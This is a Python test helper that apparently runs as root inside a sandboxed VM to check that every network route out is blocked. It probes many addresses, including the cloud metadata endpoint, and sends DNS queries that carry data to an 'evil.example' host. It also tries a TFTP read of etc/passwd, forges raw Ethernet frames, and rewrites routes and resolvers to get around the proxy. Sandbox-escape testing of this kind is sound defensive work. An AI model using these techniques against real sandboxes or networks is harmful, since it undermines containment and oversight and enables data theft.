# SPDX-License-Identifier: Apache-2.0
"""Runs as root of a machine (test_vm_exit.py): every way to the outside that a guest's root can try,
first as it is, then with addresses, routes, names and filters of its own.  CANARY and SERVICE are
ports of servers on the host; what comes of each attempt is printed as JSON.

"ANSWER ..." is what must not come: bytes of somebody who is not the sandbox's proxy."""

import contextlib
import json
import os
import socket
import struct
import subprocess
import sys

CANARY, SERVICE, *ADDRESSES = sys.argv[1:]
CANARY, SERVICE = int(CANARY), int(SERVICE)
TIMEOUT = 4
seen = {}


def sh(*words):
    return subprocess.run(words, check=False, capture_output=True, text=True).returncode


def connect(address, port, data=b"GET / HTTP/1.0\r\n\r\n"):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect((address, port))
        sock.sendall(data)
        came = sock.recv(200)
    # Only the proxy refuses, and says that it is the sandbox's.
    return "refused by the proxy" if b" 403 " in came or b" 400 " in came or not came else (
        f"ANSWER {came!r}")


def datagram(address, port, data):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT / 2)
        sock.connect((address, port))
        sock.send(data)
        return f"ANSWER {sock.recv(500)!r}"


def ask_name(address, name):
    """The proxy answers whatever server is asked: with addresses of its own, or not at all."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect((address, 53))
        sock.send(query)
        answer = sock.recv(500)
    code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    given = socket.inet_ntoa(answer[-4:]) if count else ""
    return f"code {code} {given}" if not given or given.startswith("198.1") else f"ANSWER {given}"


def ping(address, kind):
    protocol = socket.IPPROTO_ICMPV6 if ":" in address else socket.IPPROTO_ICMP
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(TIMEOUT / 2)
        head = struct.pack("!BBHHH", 128 if ":" in address else 8, 0, 0, 1, 1)
        total = sum(struct.unpack("!4H", head))
        head = struct.pack("!BBHHH", head[0], 0, 0xFFFF - (total & 0xFFFF), 1, 1)
        sock.sendto(head, (address, 0))
        came, who = sock.recvfrom(500)
        return f"echo from {who[0]}"


def frames():
    """Ethernet frames of other stations, and of none."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        for source in (b"\x02\0\0\0\0\1", b"\xff" * 6):
            for target in (b"\xff" * 6, b"\x52\x55\x0a\0\2\2", b"\x52\x56\0\0\0\2"):
                for kind in (0x0800, 0x0806, 0x86DD, 0x8100, 0x88CC, 0x0842):
                    body = os.urandom(60)
                    if kind == 0x0800:
                        payload = struct.pack(">4H", 5, CANARY, 12, 0) + b"hello"
                        body = struct.pack(">2B3H2BH4s4s", 0x45, 0, 32, 1, 0, 64, 17, 0,
                                           socket.inet_aton("192.0.2.77"),
                                           socket.inet_aton(ADDRESSES[-1])) + payload
                    with contextlib.suppress(OSError):
                        sock.send(target + source + struct.pack(">H", kind) + body)
    return "sent"


def attempts():
    for address in [*ADDRESSES, "192.0.2.2", "192.0.2.3", "192.0.2.15", "10.0.2.2", "10.0.2.3",
                    "10.0.2.4", "198.18.0.1", "169.254.169.254", "203.0.113.9", "fec0::2",
                    "fec0::3", "fd00::1", "2001:db8::1"]:
        for port in (CANARY, SERVICE):
            yield f"tcp {address} {'canary' if port == CANARY else 'service'}", (
                lambda address=address, port=port: connect(address, port))
        yield f"udp {address}", lambda address=address: datagram(address, CANARY, b"hello")
        yield f"icmp {address}", lambda address=address: ping(address, socket.SOCK_RAW)
    for port in (21, 22, 23, 25, 139, 445, 2049, 5900):
        yield f"tcp 192.0.2.2 {port}", lambda port=port: connect("192.0.2.2", port, b"")
    for address in ("192.0.2.2", "192.0.2.3", "10.0.2.3", "203.0.113.53", "fec0::3"):
        for name in ("evil.example", "secret.in.a.name.evil.example"):
            yield f"dns {address} {name}", (
                lambda address=address, name=name: ask_name(address, name))
    yield "tftp", lambda: datagram("192.0.2.2", 69, b"\0\1etc/passwd\0octet\0")
    yield "quic", lambda: datagram("203.0.113.9", 443, b"\xc0" + os.urandom(1199))
    yield "ntp", lambda: datagram("203.0.113.9", 123, b"\x1b" + bytes(47))
    yield "frames", frames


def try_all(setting):
    found = seen[setting] = {}
    for name, attempt in attempts():
        try:
            found[name] = attempt()
        except OSError as error:
            found[name] = type(error).__name__ if error.errno is None else os.strerror(error.errno)


def change():
    with open("/etc/resolv.conf", "w", encoding="utf-8") as file:
        file.write("nameserver 203.0.113.53\n")
    sh("sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.rp_filter=0",
       "net.ipv4.conf.all.route_localnet=1", "net.ipv6.conf.all.forwarding=1")
    return [sh("ip", *words.split()) for words in (
        "link set eth0 down", "link set eth0 address 02:12:34:56:78:9a", "addr flush dev eth0",
        "link set eth0 up", "addr add 10.0.2.77/32 dev eth0", "addr add 127.1.2.3/32 dev eth0",
        # The station that QEMU is, whatever address it is thought to have.
        "neigh replace 10.0.2.2 lladdr 52:55:c0:00:02:02 dev eth0",
        "route add default via 10.0.2.2 dev eth0 onlink",
        "-6 addr add fd00::77/128 dev eth0 nodad",
        "-6 neigh replace fe80::2 lladdr 52:56:00:00:00:02 dev eth0",
        "-6 route add default via fe80::2 dev eth0")]


def restore(resolv):
    with open("/etc/resolv.conf", "w", encoding="utf-8") as file:
        file.write(resolv)
    for words in ("addr flush dev eth0", "addr add 192.0.2.15/24 dev eth0",
                  "route add default via 192.0.2.2"):
        sh("ip", *words.split())


with open("/etc/resolv.conf", encoding="utf-8") as before:
    names = before.read()
try_all("as it is")
try:
    seen["changed"] = {"made": str(change())}
    made = seen["changed"]
    try_all("changed")
    seen["changed"].update(made)
finally:
    restore(names)
print(json.dumps(seen))
